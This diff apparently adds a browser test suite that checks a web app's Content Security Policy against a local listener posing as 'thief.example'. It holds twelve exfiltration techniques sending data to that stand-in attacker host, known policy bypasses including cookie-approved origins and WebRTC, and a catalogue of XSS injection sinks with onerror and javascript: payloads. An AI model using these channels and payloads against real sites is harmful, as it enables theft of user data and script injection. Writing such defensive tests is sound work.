@@ -1,0 +1,306 @@
+import { createSocket } from 'node:dgram';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import type { BrowserContext, Page } from '@playwright/test';
+import { expect, test as base } from './support/test.ts';
+
+/** A name that only this browser knows; it leads to the listener. */
+const thief = 'thief.example';
+
+/** Listens for whatever an injected script gets out. */
+async function startListener() {
+  const heard = new Set<string>();
+  const server = createServer((request, response) => {
+    heard.add((request.url ?? '').slice(1));
+    response.writeHead(200, { 'access-control-allow-origin': '*' }).end();
+  });
+  server.on('upgrade', (request, socket) => {
+    heard.add((request.url ?? '').slice(1));
+    socket.destroy();
+  });
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  const { port } = server.address() as AddressInfo;
+  return {
+    heard,
+    port,
+    url: `http://${thief}:${port}`,
+    async close() {
+      server.closeAllConnections();
+      await new Promise((resolve) => server.close(resolve));
+    },
+  };
+}
+
+type Listener = Awaited<ReturnType<typeof startListener>>;
+
+interface Fixtures {
+  listener: Listener;
+  /** A browser for which the listener is a host somewhere else. */
+  visit: (how: 'with our policy' | 'without a policy') => Promise<Visit>;
+}
+
+interface Visit {
+  context: BrowserContext;
+  /** The directive behind everything that was stopped. */
+  violations: string[];
+  /** What of the text that was planted ran as script. */
+  ran: string[];
+}
+
+const test = base.extend<Fixtures>({
+  listener: async ({}, use) => {
+    const listener = await startListener();
+    await use(listener);
+    await listener.close();
+  },
+  visit: async ({ playwright, launchOptions, product }, use) => {
+    const others = (launchOptions.args ?? []).filter((arg) => !arg.startsWith('--host-resolver'));
+    const names = `--host-resolver-rules=MAP ${thief} 127.0.0.1 , MAP * ~NOTFOUND , EXCLUDE 127.0.0.1 , EXCLUDE localhost`;
+    const browser = await playwright.chromium.launch({
+      ...launchOptions,
+      args: [...others, names],
+    });
+    await use(async (how) => {
+      const bypassCSP = how === 'without a policy';
+      const context = await browser.newContext({ baseURL: product.url, bypassCSP });
+      return { context, ...(await watch(context)) };
+    });
+    await browser.close();
+  },
+});
+
+async function watch(context: BrowserContext) {
+  const violations: string[] = [];
+  const ran: string[] = [];
+  await context.exposeBinding('noteViolation', (_, directive: string) => {
+    violations.push(directive);
+  });
+  await context.exposeBinding('ran', (_, what: string) => {
+    ran.push(what);
+  });
+  await context.addInitScript(() => {
+    document.addEventListener('securitypolicyviolation', (event) => {
+      const { noteViolation } = window as unknown as { noteViolation: (directive: string) => void };
+      noteViolation(event.effectiveDirective);
+    });
+  });
+  return { violations, ran };
+}
+
+async function openPage(context: BrowserContext): Promise<Page> {
+  const page = await context.newPage();
+  await page.goto('/login');
+  await expect(page.getByRole('heading', { name: 'Welcome Back' })).toBeVisible();
+  return page;
+}
+
+function addElement(page: Page, tag: string, attributes: Record<string, string>) {
+  return page.evaluate(
+    ([name, given]) => {
+      const element = Object.assign(document.createElement(name), given);
+      document.body.append(element);
+      if (element instanceof HTMLFormElement) element.submit();
+    },
+    [tag, attributes] as const,
+  );
+}
+
+/** How a script that runs in our page could send away what it read there. */
+const ways: Record<string, (page: Page, url: string) => Promise<unknown>> = {
+  fetch: (page, url) => page.evaluate((to) => fetch(to, { mode: 'no-cors' }), url),
+  XHR: (page, url) =>
+    page.evaluate((to) => {
+      const request = new XMLHttpRequest();
+      request.open('POST', to);
+      request.send('the key');
+    }, url),
+  WebSocket: (page, url) =>
+    page.evaluate((to) => void new WebSocket(to), url.replace('http:', 'ws:')),
+  beacon: (page, url) => page.evaluate((to) => navigator.sendBeacon(to, 'the key'), url),
+  image: (page, url) => addElement(page, 'img', { src: url }),
+  CSS: (page, url) => addElement(page, 'link', { rel: 'stylesheet', href: url }),
+  font: (page, url) => page.evaluate((to) => new FontFace('x', `url(${to})`).load(), url),
+  form: (page, url) => addElement(page, 'form', { method: 'POST', action: url, target: '_blank' }),
+  frame: (page, url) => addElement(page, 'iframe', { src: url }),
+  worker: (page, url) =>
+    page.evaluate((to) => {
+      const script = new Blob([`fetch('${to}', { mode: 'no-cors' })`]);
+      void new Worker(URL.createObjectURL(script));
+    }, url),
+  prefetch: (page, url) => addElement(page, 'link', { rel: 'prefetch', href: url }),
+  navigation: (page, url) => page.evaluate((to) => window.location.assign(to), url),
+};
+
+/** By what each is shut. */
+const shutBy: Record<string, string> = {
+  fetch: 'connect-src',
+  XHR: 'connect-src',
+  WebSocket: 'connect-src',
+  beacon: 'connect-src',
+  image: 'img-src',
+  CSS: 'style-src-elem',
+  font: 'font-src',
+  form: 'form-action',
+  frame: 'frame-src',
+  worker: 'require-trusted-types-for',
+  prefetch: 'default-src',
+};
+
+/** Tries all the ways, one after the other, and waits until it is clear what became of each. */
+async function tryAll(page: Page, url: string, isOver: (name: string) => Promise<void>) {
+  for (const [name, leave] of Object.entries(ways)) {
+    await leave(page, `${url}/${name}`).catch(() => undefined);
+    await isOver(name);
+  }
+}
+
+test('of twelve ways out of a page, our policy shuts eleven', async ({ visit, listener }) => {
+  const { context, violations } = await visit('with our policy');
+  await tryAll(await openPage(context), listener.url, async (name) => {
+    const directive = shutBy[name];
+    if (directive === undefined) await expect.poll(() => [...listener.heard]).toContain(name);
+    else await expect.poll(() => violations.splice(0)).toEqual([directive]);
+  });
+  expect(Object.keys(ways)).toHaveLength(12);
+  expect([...listener.heard].filter((name) => name !== 'favicon.ico')).toEqual(['navigation']);
+});
+
+test('without our policy all twelve are open', async ({ visit, listener }) => {
+  const { context, violations } = await visit('without a policy');
+  await tryAll(await openPage(context), listener.url, async (name) => {
+    await expect.poll(() => [...listener.heard]).toContain(name);
+  });
+  expect(violations).toEqual([]);
+});
+
+/** How a script gets past the policy all the same: docs/security.md admits each of these. */
+const admitted: Record<string, (page: Page, listener: Listener) => Promise<unknown>> = {
+  window: (page, { url }) => page.evaluate((to) => void window.open(to), `${url}/window`),
+  'this computer': (page, { port }) =>
+    page.evaluate(
+      (to) => fetch(to, { mode: 'no-cors' }),
+      `http://127.0.0.1:${port}/this%20computer`,
+    ),
+  'a host approved by the script': async (page, { url }) => {
+    await page.evaluate((origin) => {
+      document.cookie = `approved_origins=${encodeURIComponent(origin)}; path=/`;
+    }, url);
+    await page.reload();
+    await page.evaluate(
+      (to) => fetch(to, { mode: 'no-cors' }),
+      `${url}/a%20host%20approved%20by%20the%20script`,
+    );
+  },
+};
+
+test('what our policy can not shut is known', async ({ visit, listener }) => {
+  const { context } = await visit('with our policy');
+  const page = await openPage(context);
+  for (const [name, leave] of Object.entries(admitted)) {
+    await leave(page, listener);
+    await expect.poll(() => [...listener.heard].map(decodeURIComponent)).toContain(name);
+  }
+});
+
+test('a script can name a host of its own by WebRTC', async ({ visit }) => {
+  const socket = createSocket('udp4');
+  await new Promise<void>((resolve) => socket.bind(0, '127.0.0.1', resolve));
+  const heard = new Promise((resolve) => socket.once('message', resolve));
+  const { context } = await visit('with our policy');
+  const page = await openPage(context);
+  await page.evaluate(async (port) => {
+    const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
+    connection.createDataChannel('key');
+    await connection.setLocalDescription(await connection.createOffer());
+    Object.assign(window, { connection });
+  }, socket.address().port);
+  await heard;
+  socket.close();
+});
+
+const script = "ran('planted')";
+const markup = `<img src="/none" onerror="${script}">`;
+
+/** How a text could become script. */
+const sinks: Record<string, (page: Page) => Promise<unknown>> = {
+  innerHTML: (page) => page.evaluate((text) => (document.body.innerHTML = text), markup),
+  outerHTML: (page) =>
+    page.evaluate((text) => {
+      const element = document.body.appendChild(document.createElement('p'));
+      element.outerHTML = text;
+    }, markup),
+  insertAdjacentHTML: (page) =>
+    page.evaluate((text) => document.body.insertAdjacentHTML('beforeend', text), markup),
+  'document.write': (page) => page.evaluate((text) => document.write(text), markup),
+  'a parsed document': (page) =>
+    page.evaluate((text) => {
+      const { body } = new DOMParser().parseFromString(text, 'text/html');
+      document.body.append(...body.childNodes);
+    }, markup),
+  'a contextual fragment': (page) =>
+    page.evaluate((text) => {
+      document.body.append(document.createRange().createContextualFragment(text));
+    }, markup),
+  'a frame of text': (page) =>
+    page.evaluate(
+      (text) => {
+        const frame = Object.assign(document.createElement('iframe'), { srcdoc: text });
+        document.body.append(frame);
+      },
+      markup.replace('ran(', 'parent.ran('),
+    ),
+  'an inline script': (page) => addElement(page, 'script', { textContent: script }),
+  'a script of data': (page) =>
+    addElement(page, 'script', { src: `data:text/javascript,${encodeURIComponent(script)}` }),
+  'an attribute': (page) =>
+    page.evaluate((text) => {
+      const element = document.body.appendChild(document.createElement('button'));
+      element.setAttribute('onclick', text);
+      element.click();
+    }, script),
+  // oxlint-disable-next-line no-implied-eval -- Whether it is refused is the question.
+  'a timer': (page) => page.evaluate((text) => void setTimeout(text), script),
+  'an address': (page) =>
+    page.evaluate((text) => window.location.assign(text), `javascript:${script}`),
+  'a link': (page) =>
+    page.evaluate((text) => {
+      const link = Object.assign(document.createElement('a'), { href: text });
+      document.body.append(link);
+      link.click();
+    }, `javascript:${script}`),
+  'a policy of its own': (page) =>
+    page.evaluate((text) => {
+      const { trustedTypes } = window as unknown as { trustedTypes: Factory };
+      const policy = trustedTypes.createPolicy('default', { createHTML: (html) => html });
+      document.body.innerHTML = policy.createHTML(text);
+    }, markup),
+};
+
+interface Factory {
+  createPolicy(
+    name: string,
+    rules: { createHTML(html: string): string },
+  ): { createHTML(html: string): string };
+}
+
+test('no text becomes script, and each would without our policy', async ({ visit }) => {
+  const shut = await visit('with our policy');
+  const open = await visit('without a policy');
+  const page = await openPage(shut.context);
+  const other = await openPage(open.context);
+  for (const [name, plant] of Object.entries(sinks)) {
+    await plant(page).catch(() => undefined);
+    await expect.poll(() => shut.violations.splice(0), name).not.toEqual([]);
+    await plant(other);
+    await expect.poll(() => open.ran.splice(0), name).toEqual(['planted']);
+  }
+  expect(shut.ran).toEqual([]);
+});
+
+test('the page of the API’s documents lives within a policy of its own', async ({ page }) => {
+  await page.goto('/api/docs');
+  await page.getByRole('button', { name: /^GET \/api\/health Whether/ }).click();
+  await page.getByRole('button', { name: 'Try it out' }).click();
+  await page.getByRole('button', { name: 'Execute' }).click();
+  await expect(page.getByText('Server response')).toBeVisible();
+});
